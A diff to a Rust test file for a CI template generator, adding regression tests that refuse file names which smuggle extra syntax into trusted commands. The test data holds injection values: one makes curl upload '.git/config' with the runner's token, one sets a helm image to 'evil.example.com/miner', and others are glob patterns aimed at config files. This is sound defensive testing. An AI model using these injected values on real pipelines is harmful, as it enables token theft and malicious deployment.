@@ -1780,22 +1780,30 @@ fn only_data_programs_scripts_and_trusted_ones_read_a_chosen_value() {
         );
     }
     // Trusted in childgen.yml, or by the template's own comment: the
-    // program is the template author's to vouch for; the sandbox's stub
-    // logs its arguments.
+    // program is the template author's to vouch for, with names (the
+    // sandbox's stub logs its arguments); a path with special characters
+    // it may parse itself (`curl -F @a,b`, `helm --set k=a,b=c`) is not.
     let (env, config) = one_rule_trusting("pipeline_name:pipelines", &["mlctl"]);
+    let trusted = [
+        with_f(&["mlctl deploy --model \"$F\" || true"]),
+        format!(
+            "{{# trusted_commands: pytest #}}\n{}",
+            with_f(&["timeout 60 pytest \"$F\" || true"])
+        ),
+    ];
+    assert_renders(&env, &config, "A\tpipelines/p1/model_v2.py\n", &trusted);
+    for template in &trusted {
+        let (env, config) = one_rule_trusting("pipeline_name:pipelines", &["mlctl"]);
+        env.write("t.yml.tera", template);
+        let listing = format!("A\t{}\n", git_quote(hostile));
+        assert_eq!(attack(&config, env.path(), &listing, false, template), Outcome::Refused);
+        let out = env.stdin(listing).run(&["generate", "--diff", "-"]);
+        assert_contains(
+            &out.stderr,
+            "which `trusted_commands` trusts with names, not with its own syntax",
+        );
+    }
     let listing = format!("A\t{}\n", git_quote(hostile));
-    assert_renders(
-        &env,
-        &config,
-        &listing,
-        &[
-            with_f(&["mlctl deploy --model \"$F\" || true"]),
-            format!(
-                "{{# trusted_commands: pytest #}}\n{}",
-                with_f(&["timeout 60 pytest \"$F\" || true"])
-            ),
-        ],
-    );
     // Data programs and the repository's scripts, behind runners too.
     let (env, config) = one_rule("pipeline_name:pipelines");
     assert_renders(
@@ -2565,7 +2573,7 @@ fn the_thirty_fourth_passes_bypasses_are_refused() {
     assert_refused(
         "{% for f in files %}j-{{ pipeline_name }}-{{ loop.index }}:\n  script: [echo hi]\n  artifacts:\n    paths: [{{ f.path | yaml_quote }}]\n{% endfor %}",
         "{..,x}/{..,x}/{.git,x}/config",
-        "`artifacts:` or `cache:` pattern",
+        "into a file pattern (`artifacts:`, `cache:`",
     );
 }
 
@@ -2583,7 +2591,7 @@ fn the_thirty_fifth_and_sixth_passes_bypasses_are_refused() {
     assert_refused(
         "{% for f in files %}j-{{ pipeline_name }}-{{ loop.index }}:\n  script: [echo hi]\n  artifacts:\n    reports:\n      junit: [{{ f.path | yaml_quote }}]\n      coverage_report:\n        coverage_format: cobertura\n        path: {{ f.path | yaml_quote }}\n{% endfor %}",
         "**/config",
-        "`artifacts:` or `cache:` pattern",
+        "into a file pattern (`artifacts:`, `cache:`",
     );
 }
 
@@ -2833,4 +2841,34 @@ fn the_fortieth_passes_bypass_is_refused() {
         &out.stderr,
         "a `!reference` into keyword `variables` takes what another template renders (the templates' `variables`)",
     );
+}
+
+#[test]
+fn the_forty_first_passes_bypasses_are_refused() {
+    // A trusted program parses its own syntax inside an argument: curl's
+    // `-F "file=@./$F"` with a file `summary.txt,.git/config` uploaded the
+    // clone's config (with the runner's token) too; helm's `--set` with
+    // `x,image.repository=evil.example.com/miner` would set the image.
+    let upload = "{#- trusted_commands: curl -#}\n{%- for f in files %}\nshare-{{ pipeline_name }}-{{ loop.index }}:\n  variables:\n    REPORT_FILE: {value: {{ f.path | yaml_quote }}, expand: false}\n  script:\n    - curl -fsS -F \"file=@./$REPORT_FILE\" -F channels=ml-review http://127.0.0.1:9/files.upload || true\n{%- endfor %}\n";
+    assert_refused(
+        upload,
+        "summary.txt,.git/config",
+        "trusts with names, not with its own syntax",
+    );
+    let deploy = "{#- trusted_commands: helm -#}\ndeploy-{{ pipeline_name }}:\n  variables:\n    TRIGGER_FILE: {value: {{ files.0.path | yaml_quote }}, expand: false}\n  script:\n    - helm upgrade --install model ./chart --set \"podAnnotations.triggeredBy=$TRIGGER_FILE\" || true\n";
+    assert_refused(
+        deploy,
+        "x,image.repository=evil.example.com/miner",
+        "trusts with names, not with its own syntax",
+    );
+    // `rules:exists` (and `changes`) are patterns: a deleted `*.yaml`
+    // would match the folder's other files and skip the teardown.
+    assert_refused(
+        "teardown-{{ pipeline_name }}:\n  script: [echo teardown]\n  rules:\n    - exists: [{{ files.0.path | yaml_quote }}]\n      when: never\n    - when: on_success\n",
+        "*.yaml",
+        "into a file pattern (`artifacts:`, `cache:`, `rules:changes`",
+    );
+    // With a plain name, the trusted program gets it.
+    let (env, config) = one_rule("pipeline_name:pipelines");
+    assert_renders(&env, &config, "A\tpipelines/churn/summary.txt\n", &[upload]);
 }
